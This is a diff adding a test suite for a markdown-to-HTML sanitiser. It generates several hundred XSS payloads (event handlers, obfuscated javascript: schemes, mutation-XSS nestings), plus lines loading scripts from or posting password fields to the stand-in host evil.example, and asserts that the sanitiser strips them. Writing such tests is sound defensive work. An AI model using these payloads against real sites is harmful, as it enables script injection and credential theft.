@@ -1,0 +1,197 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { harmIn } from '../testing/harmful-html.ts';
+import { htmlOf } from './markdown.ts';
+
+const code = 'alert(1)';
+const handlers = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onfocus',
+  'onmouseover',
+  'ontoggle',
+  'onbegin',
+  'oNpOiNtErRaWuPdAtE',
+];
+const elements = [
+  'img src=x',
+  'svg',
+  'body',
+  'details open',
+  'input autofocus',
+  'video src=x',
+  'a href=#',
+  'p',
+  'math',
+  'x',
+];
+const breaks = [' ', '/', '\n', '\t', '\u000c'];
+const quotes = ['', '"', "'", '`'];
+const byHandler = elements.flatMap((element) =>
+  handlers.flatMap((handler, n) => {
+    const quote = quotes[n % quotes.length];
+    return `<${element}${breaks[n % breaks.length]}${handler}=${quote}${code}${quote}>`;
+  }),
+);
+
+const schemes = [
+  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:'],
+  ...[
+    'javascript&colon;',
+    '&#106;avascript:',
+    '&#x6A;avascript:',
+    'javascript&#58;',
+    '&#0000106avascript:',
+    'vbscript:',
+  ],
+  ...[
+    'data:text/html,',
+    'data:text/html;base64,',
+    'data:image/svg+xml,',
+    'livescript:',
+    'file:///',
+    'blob:',
+    'view-source:',
+  ],
+  ...['//', '\\\\', '/\\', 'intent://', 'jar:', 'feed:javascript:', 'javascript://%0a'],
+];
+const carriers = [
+  (to: string) => `[x](${to})`,
+  (to: string) => `[x](<${to}>)`,
+  (to: string) => `![x](${to})`,
+  (to: string) => `<${to}>`,
+  (to: string) => `[x][y]\n\n[y]: ${to}`,
+  (to: string) => `[x](https://example.org "t" onmouseover="${to}")`,
+  (to: string) => `<a href="${to}">x</a>`,
+  (to: string) => `<a href='${to}'>x</a>`,
+  (to: string) => `<a href=${to}>x</a>`,
+  (to: string) => `<img src="${to}">`,
+  (to: string) => `<iframe src="${to}"></iframe>`,
+  (to: string) => `<form action="${to}"><button>x</button></form>`,
+  (to: string) => `<object data="${to}"></object>`,
+  (to: string) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`,
+];
+const byScheme = schemes.flatMap((scheme) => carriers.map((carry) => carry(`${scheme}${code}`)));
+
+const byNesting = [
+  `<script>${code}</script>`,
+  `<scr<script>ipt>${code}</scr</script>ipt>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<script\u0000>${code}</script>`,
+  `<<script>${code}//<</script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
+  `<svg><style><img src=x onerror=${code}></style></svg>`,
+  `<textarea><img src=x onerror=${code}></textarea>`,
+  `<title><img src=x onerror=${code}></title>`,
+  `<xmp><img src=x onerror=${code}></xmp>`,
+  `<!--><img src=x onerror=${code}>-->`,
+  `<!--[if gte IE 4]><script>${code}</script><![endif]-->`,
+  `<![CDATA[<script>${code}</script>]]>`,
+  `<?php echo "<script>${code}</script>" ?>`,
+  `<style>@import "https://evil.example/x.css"</style>`,
+  `<p style="background:url(https://evil.example)">x</p>`,
+  `<link rel=stylesheet href=https://evil.example/x.css>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
+  `<base href="https://evil.example/">`,
+  `<template><script>${code}</script></template>`,
+  `\`\`\`html"><script>${code}</script>\n<script>${code}</script>\n\`\`\``,
+  `\`<script>${code}</script>\``,
+  `| a | b |\n|--|--|\n| <script>${code}</script> | [x](javascript:${code}) |`,
+  `- [x] <img src=x onerror=${code}>`,
+  `> <iframe srcdoc="<script>${code}</script>">`,
+  `[<img src=x onerror=${code}>](https://example.org)`,
+  `[x](https://example.org"onmouseover="${code})`,
+  `[x](https://example.org '"><script>${code}</script>')`,
+  `&lt;script&gt;${code}&lt;/script&gt;`,
+  `<input type=image src=x onerror=${code}>`,
+  `<input type=password name=password><input type=submit formaction=https://evil.example>`,
+  `<a href=https://example.org target=_top rel=opener ping=https://evil.example>x</a>`,
+  `<p id=root class=fixed>x</p>`,
+  `<div dir=rtl contenteditable>x</div>`,
+];
+const corpus = [...byHandler, ...byScheme, ...byNesting];
+
+test('the corpus is a large one', () => {
+  expect(new Set(corpus).size).toBeGreaterThan(450);
+});
+
+test('of everything in the corpus nothing but text, a few tags and safe links is left', () => {
+  const harm = corpus.flatMap((attack) => harmIn(htmlOf(attack)).map((found) => `${attack} => ${found}`));
+  expect(harm).toEqual([]);
+});
+
+test('nor of any pieces of it put together', () => {
+  const pieces = fc.constantFrom(
+    ...corpus,
+    ...breaks,
+    '<',
+    '>',
+    '"',
+    "'",
+    '`',
+    '\\',
+    '[',
+    '](',
+    ')',
+    '!',
+    '&#',
+    '<!--',
+    '-->',
+  );
+  fc.assert(
+    fc.property(fc.array(pieces, { maxLength: 6 }), (parts) => {
+      expect(harmIn(htmlOf(parts.join('')))).toEqual([]);
+    }),
+    { numRuns: 500 },
+  );
+});
+
+test('what is found harmful is harmful: the test of the test', () => {
+  for (const html of [
+    `<script>${code}</script>`,
+    `<p onclick="${code}">`,
+    '<img src="x">',
+    '<a href="javascript:x">',
+    '<a href="java&#x09;script:x">',
+    '<a href="//evil.example">',
+    '<p style="x">',
+    '<constructor>',
+  ]) {
+    expect([html, harmIn(html).length > 0]).toEqual([html, true]);
+  }
+  expect(harmIn('<p>a &lt;b&gt; <a href="https://example.org" rel="x">c</a></p>')).toEqual([]);
+});
+
+describe('what people mean is shown', () => {
+  test.each([
+    ['[x](https://example.org/a?b=c)', 'href="https://example.org/a?b=c"'],
+    ['<me@example.org>', 'href="mailto:me@example.org"'],
+    ['1. one\n2. two', '<li>two</li>'],
+    ['- [x] done', 'type="checkbox"'],
+    ['a < b && c > d', 'a &lt; b &amp;&amp; c &gt; d'],
+    ['`<script>`', '<code>&lt;script&gt;</code>'],
+  ])('%s', (markdown, part) => {
+    expect(htmlOf(markdown)).toContain(part);
+  });
+
+  test('and a link opens in a window that knows nothing of ours', () => {
+    expect(htmlOf('[x](https://example.org)')).toContain('rel="noopener noreferrer nofollow"');
+  });
+});
+
+describe('a text made to be hard to read', () => {
+  const repeated = ['>', '[', '*a_ ', '<b>', '- ', '1. ', '_a', 'a**b', '`', '![', '<!--', '<', '&', '~', 'a\n', '|a'];
+  test.each(repeated)('of nothing but %j is shown in good time', (piece) => {
+    const began = performance.now();
+    const html = htmlOf(piece.repeat(50_000 / piece.length));
+    expect(performance.now() - began).toBeLessThan(2_000);
+    expect(harmIn(html)).toEqual([]);
+  });
+
+  test('is shown as it was written where the parser gives up', () => {
+    expect(htmlOf(`${'1. '.repeat(16_000)}<b>`)).toMatch(/^<pre>1\. 1\. .*&lt;b&gt;/);
+    expect(htmlOf('_a'.repeat(5_000))).toMatch(/^<pre>_a_a/);
+  });
+});
